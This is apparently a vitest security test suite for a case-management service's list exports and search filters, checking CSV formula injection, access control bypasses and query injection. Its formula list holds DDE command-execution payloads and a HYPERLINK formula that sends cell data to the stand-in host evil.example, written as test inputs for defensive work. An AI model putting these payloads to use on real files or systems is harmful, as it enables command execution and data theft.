import { describe, expect, test } from 'vitest'
import { ask } from './ask.ts'
import { cellsOf } from './files.ts'
import { judge, strayRedirect } from './judge.ts'
import { listPath, visit } from './pages.ts'
import { mark, texts } from './payloads.ts'
import { encoded } from './requests.ts'
import type { Scene } from './scene.ts'
import { tryAll } from './tries.ts'
import { leadOf, newReference, staffOf } from './world.ts'

// What a spreadsheet runs, or takes for the end of a cell.
const formulas = [
  `=cmd|'/c ${mark}'!A1`,
  `=HYPERLINK("https://evil.example/?x="&A1,"${mark}")`,
  `+${mark}`,
  `-2+3+cmd|'${mark}'!A1`,
  `@SUM(1+1)*cmd|'${mark}'!A1`,
  `＝1+1 ${mark}`,
  `＋1 ${mark}`,
  `＠SUM(1) ${mark}`,
  `\t=1+1 ${mark}`,
  `\r=1+1 ${mark}`,
  `\n=1+1 ${mark}`,
  ` =1+1 ${mark}`,
  `\u200b=1+1 ${mark}`,
  `\ufeff=1+1 ${mark}`,
  `\u00a0=1+1 ${mark}`,
  `",=1+1 ${mark}`,
  `"\r\n=1+1 ${mark}`,
  `x","=1+1 ${mark}`,
  `x\r\n=1+1,${mark}`,
  `'=1+1 ${mark}`,
]

/** Lists of the desk: their files, filters and words to search for. */
export function tryDeskLists(scene: Scene): void {
  const { place, world, changingNothing } = scene
  const { service } = place
  const { bystander } = world
  const list = listPath(place)
  const lead = scene.visitor(leadOf(place))

  describe('the desk: lists', () => {
    test('no cell of a file is a formula, and each is what was typed', async () => {
      const manage = world.program('accounts:manage').token
      const roles = staffOf(place).slice(0, 1)
      const cases = await Promise.all(
        formulas.map(async (text, index) => {
          const reference = newReference()
          const given = { reference, subject: text, respondWithin: { amount: 1, unit: 'working-days' }, answers: {} }
          const opened = await world.call('case-management', 'POST', '/cases', world.program('cases:open').token, given)
          const account = { name: text, email: `formula-${index}@place.example`, roles }
          const made = await world.call('identity', 'POST', '/accounts', manage, account)
          const path = `/cases/${reference}`
          const leader = world.person(leadOf(place)).token
          const assignee = made.body.personId
          if (made.status < 300 && opened.status < 300)
            await world.call('case-management', 'POST', `${path}/allocation`, leader, { assignee })
          const { body } = await world.call('case-management', 'GET', path, world.program('cases:read').token)
          return {
            text,
            reference,
            subject: body.subject,
            assigned: body.assignee !== undefined && body.assignee !== null,
          }
        }),
      )
      const kept = cases.filter(({ subject }) => typeof subject === 'string')
      expect(kept.length, 'cases whose subject is a formula').toBeGreaterThan(10)
      expect(cases.filter(({ assigned }) => assigned).length, 'colleagues whose name is one').toBeGreaterThan(10)
      const file = await visit(service.url, `${list}/csv`, lead)
      expect(file.status).toBe(200)
      const rows = new Map(cellsOf(file.body).map((cells) => [cells[0], cells]))
      const found = await tryAll('desk', kept, async ({ reference, subject, text }) => {
        const cell = rows.get(reference)?.[1]
        return [String(subject), `'${subject}`].includes(String(cell)) ? [] : [`${JSON.stringify(text)}: ${cell}`]
      })
      expect([...found, ...judge(file)]).toEqual([])
    })

    test('a file is given to whoever may see the list, and to nobody else', async () => {
      const bearer = { authorization: `Bearer ${world.person(leadOf(place)).token}` }
      const others = scene.visitors.filter(({ role }) => role === undefined || role === 'resident')
      expect(others.length).toBeGreaterThan(1)
      const paths = ['csv', 'csv?q=Bystander', 'csv?view=all', 'csv/', 'CSV', '%63sv', 'csv%00', 'csv.csv', 'at/csv']
      const ways: [headers: Record<string, string>, method: string][] = [
        [{}, 'GET'],
        [{ accept: 'text/csv' }, 'GET'],
        [{}, 'HEAD'],
        [bearer, 'GET'],
        [{ ...bearer, accept: 'application/json' }, 'GET'],
        [{ 'x-original-url': `${list}/csv`, 'x-rewrite-url': `${list}/csv` }, 'GET'],
      ]
      const tries = others.flatMap((visitor) =>
        paths.flatMap((path) => ways.map(([headers, method]) => ({ visitor, path, headers, method }))),
      )
      const found = await changingNothing(() =>
        tryAll('desk', tries, async ({ visitor, path, headers, method }) => {
          const answer = await visit(service.url, `${list}/${path}`, visitor, { method, headers })
          const given = answer.status === 200 || String(answer.headers['content-type']).includes('csv')
          const told = answer.body.includes(bystander.reference) || answer.body.includes('Bystander Subject')
          const faults = method === 'HEAD' ? [] : judge(answer)
          return [...(given ? ['is given'] : []), ...(told ? ['is told'] : []), ...faults].map(
            (fault) => `${visitor.name} ${method} ${path}: ${answer.status} ${fault}`,
          )
        }),
      )
      expect(found).toEqual([])
      const theirs = await visit(service.url, `${list}/csv?q=Bystander`, scene.visitor('helper'))
      expect(theirs.body).toContain(bystander.reference)
    })

    test('no filter and no word to search for is code, and a word finds what has it alone', async () => {
      const filters = [...place.composition.lists[0]!.filters, 'view', 'q', 'after', 'limit', 'search', 'unassigned']
      // Each has a piece longer than any part of a reference, which is drawn anew in each run and found by its beginning.
      const wild = [
        '%',
        '_',
        '%%',
        'By%tander',
        'B_stander',
        '%ystander',
        'B*tander',
        '.*',
        'Bystander|nobody',
        `\\`,
        `'`,
        '"',
      ]
      const typed = [
        ...texts.map(([kind, text]) => [kind, text.slice(0, 2000)] as const),
        ...wild.map((w) => [w, w] as const),
      ]
      const tries = [list, `${list}/csv`].flatMap((at) =>
        filters.flatMap((name) =>
          typed.flatMap(([kind, text]) =>
            [name, `${name}[]`, `${name}[__proto__]`].map((as) => ({
              at,
              name,
              as,
              kind,
              query: `${as}=${encoded(text)}`,
            })),
          ),
        ),
      )
      const found = await changingNothing(() =>
        tryAll('desk', tries, async ({ at, name, as, kind, query }) => {
          const answer = await visit(service.url, `${at}?${query}`, lead)
          const told = as === 'q' && answer.body.includes(bystander.reference) ? ['finds what has it not'] : []
          const stray = strayRedirect(answer, service.url, [])
          return [...told, ...stray, ...judge(answer)].map((fault) => `${at} ${name} as ${as}, ${kind}: ${fault}`)
        }),
      )
      expect(found).toEqual([])
      const right = await ask(service.url, `${list}?q=Bystander`, { headers: { cookie: lead.cookie } })
      expect(right.body).toContain(bystander.reference)
    })
  })
}
